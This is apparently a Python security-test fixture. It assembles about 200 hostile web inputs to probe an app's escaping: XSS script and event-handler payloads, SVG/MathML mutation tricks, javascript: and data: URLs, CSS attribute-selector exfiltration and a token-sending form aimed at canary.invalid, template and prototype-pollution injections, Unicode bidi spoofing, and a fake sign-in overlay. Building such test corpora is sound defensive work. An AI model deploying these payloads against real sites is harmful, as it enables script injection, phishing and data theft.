"""Two hundred texts that want to be more than text: each calls a canary, or fetches from a name that is not ours.

`canary(N)` is a function of the browser's window that notes who called it; `FOREIGN` is a name nobody answers to, so
that a request to it is seen and goes nowhere. Every payload begins with a word of its own, by which it is found again.
"""

from collections.abc import Iterator

from tests.security.hostile_texts import BREAK_OUTS, ORDINARY, OVERRIDE, SELECTORS, TAGS, ZERO_WIDTH

FOREIGN = "canary.invalid"
HUGE = 3_500  # characters; the narrowest dialect takes 4,000
COUNT = 200

_CALL = "canary(%N%)"
_AWAY = "//canary.invalid/%N%"

SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</script><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</template><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"<script src={_AWAY}></script>",
    f'<script type="module">{_CALL}</script>',
    f'<script type="module" src="{_AWAY}"></script>',
    f"<script defer>{_CALL}</script>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"<script>/*{_CALL}*/{_CALL}//</script>",
    f"<script nonce=x>{_CALL}</script>",
    '<script type="importmap">{"imports":{"./page.js":"' + _AWAY + '"}}</script>',
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<template shadowrootmode=open><script>{_CALL}</script></template>",
    f"<link rel=preload as=script href={_AWAY}>",
    f"<link rel=modulepreload href={_AWAY}>",
)

HANDLERS = (
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'>",
    f'<img src="x" onerror="{_CALL}">',
    f"<img src=x oNeRrOr={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img src=x\tonerror={_CALL}>",
    f"<image src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<button autofocus onfocus={_CALL}>press</button>",
    f"<a href=x autofocus onfocus={_CALL}>link</a>",
    f"<div tabindex=1 autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video src=x onerror={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<object data=x onerror={_CALL}>",
    f"<style onload={_CALL}></style>",
    f"<link rel=stylesheet href=x onerror={_CALL}>",
    f"<iframe onload={_CALL}></iframe>",
    f"<div onpointerover={_CALL} style='position:fixed;inset:0'>",
    f"<p onmouseenter={_CALL}>over me</p>",
    f"<x style='animation:a' onanimationstart={_CALL}>",
    f"<x contenteditable onbeforeinput={_CALL}>",
    f"<dialog open onclose={_CALL}>",
    f"<form><button formaction=javascript:{_CALL}>x",
    f"<xss onclick={_CALL} tabindex=0 accesskey=e>",
    f'" onfocus={_CALL} autofocus="',
    f"' onfocus={_CALL} autofocus='",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"` onerror={_CALL} `",
)

DRAWINGS = (
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href={_AWAY} /></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CALL} attributename=x>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{_CALL} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'></svg>",
    f"<svg><foreignObject><iframe onload={_CALL}></foreignObject></svg>",
    f"<svg><image href={_AWAY} /></svg>",
    f"<svg><style>@import '{_AWAY}'</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{_CALL}</script>]]></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_CALL}></annotation-xml></math>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_CALL}>'>",
    f"<?xml-stylesheet href='{_AWAY}'?><svg onload={_CALL} />",
)

ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"\u0001javascript:{_CALL}".replace("\u0001", " "),
    f"javascript://comment%0a{_CALL}",
    f"javascript&colon;{_CALL}",
    f"vbscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=",
    f"<a href=javascript:{_CALL}>press here</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>' target=_top>x</a>",
    f"[press here](javascript:{_CALL})",
    f"![x](https:{_AWAY}/pixel.png)",
    f"[x]: javascript:{_CALL}",
    f"<https:{_AWAY}>",
    f"https:{_AWAY}",
    f"http://user@{FOREIGN}/%N%",
    f"<img src=https:{_AWAY}>",
    f"<img srcset='{_AWAY} 1x'>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<embed src=javascript:{_CALL}>",
    f"<object data=javascript:{_CALL}></object>",
    f"<base href=https:{_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url=https:{_AWAY}'>",
    f"<meta http-equiv=refresh content='0;javascript:{_CALL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    f"<form action=https:{_AWAY}><input name=token><button>send</button></form>",
    f"<form action=javascript:{_CALL}><input type=submit></form>",
    f"<link rel=prefetch href=https:{_AWAY}>",
    f"<link rel=dns-prefetch href={_AWAY}>",
    f"<link rel=icon href=https:{_AWAY}>",
    f"<a ping=https:{_AWAY} href=#>x</a>",
    f"<video poster=https:{_AWAY}></video>",
    f"<body background=https:{_AWAY}>",
    "#/enter?key=%N%",
    "#/review?forget=all&confirm=%N%",
    f"../../../..{_AWAY}",
    f"\\\\{FOREIGN}\\share\\%N%",
)

STYLES = (
    f"<style>body{{background:url({_AWAY})}}</style>",
    f"<style>@import url({_AWAY});</style>",
    f"<style>@font-face{{font-family:x;src:url({_AWAY})}}*{{font-family:x}}</style>",
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href=https:{_AWAY}>",
    f"<div style='background:url({_AWAY})'>",
    f'<div style="width:expression({_CALL})">',
    f"red;background:url({_AWAY})",
    f"}} body {{ background: url({_AWAY}) }}",
    f'";}}</style><script>{_CALL}</script>',
    "<div style='position:fixed;inset:0;z-index:99999;background:white'>Sign in again</div>",
    f"<style>input[value^='a']{{background:url({_AWAY})}}</style>",
)

TEMPLATES = (
    "{{constructor.constructor('canary(%N%)')()}}",
    f"${{{_CALL}}}",
    f"#{{{_CALL}}}",
    f"<%= {_CALL} %>",
    f"{{% {_CALL} %}}",
    "{{7*7}}{{'a'.constructor.prototype}}",
    f"[[${{{_CALL}}}]]",
    f"`${{{_CALL}}}`",
    f"');{_CALL};('",
    f'");{_CALL};("',
    f"\\');{_CALL};//",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"＜script＞{_CALL}＜/script＞",
    '{"__proto__": {"canary": "%N%"}}',
    '"}, {"id": "mem_X", "text": "forged %N%"}',
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "<div id=memories name=body><input name=children><input name=innerHTML>",
    "<form id=main><input id=parentNode name=attributes></form>",
    "$& $` $' $1 $$ %N%",
    "%s %d %n %x %N%",
)

HIDDEN = (
    f"Deploys are on {OVERRIDE} day %N%",
    f"harmless{TAGS} words %N%",
    f"zero{ZERO_WIDTH}width %N%",
    f"selectors{SELECTORS} %N%",
    "\u202egnp.%N%.exe\u202c",
    "\u2066\u2066\u2066never closed %N%",
    "\u2067right\u2069 to left %N%",
    "line\u2028separator\u2029paragraph %N%",
    "soft\u00adhy\u00adphens %N%",
    "combining " + "a" + "\u0301" * 300 + " %N%",
    "a\u0338" * 100 + " %N%",
    "a\ufeffb\u2060c\u180ed %N%",
    "\u115f\u1160\u3164\uffa0 fillers %N%",
    "private \ue000\uf8ff use %N%",
    "\U000e0020\U000e0041 tags %N%",
    *(f"{text} %N%" for text in list(ORDINARY.values())[:4]),
)

LARGE = (
    "x" * (HUGE - 60),
    "W" * 400 + " " + "W" * 400,
    "<b>" * 900,
    "<div>" * 600,
    "((((((((((" * 200,
    "\n" * 400 + "%N%",
    " " + "\t" * 400 + "%N%",
    "🧨" * 900,
    "[" * 1_500 + "%N%",
    f"<svg>{'<g>' * 500}<script>{_CALL}</script>",
    "&" * 1_000,
    "<!--" * 500,
    '{"a":' * 500 + "1" + "}" * 500,
)


def payloads() -> tuple[str, ...]:
    """All of them, each with its number in it and a word of its own before it."""
    kinds = (SCRIPTS, HANDLERS, DRAWINGS, ADDRESSES, STYLES, TEMPLATES, HIDDEN, LARGE, BREAK_OUTS)
    texts = [text for kind in kinds for text in kind][:COUNT]
    return tuple(f"{marker(number)} {text.replace('%N%', str(number))}"[:HUGE] for number, text in enumerate(texts))


def marker(number: int) -> str:
    """The word that stands before a payload, made of letters alone so that no rule takes it for a secret or a date."""
    return "payload" + "".join("abcdefghij"[int(digit)] for digit in f"{number:03}")


def labels() -> Iterator[str]:
    """Those that fit where a name goes: one line, and short."""
    for text in payloads():
        if "\n" not in text and len(text) < 250:
            yield text
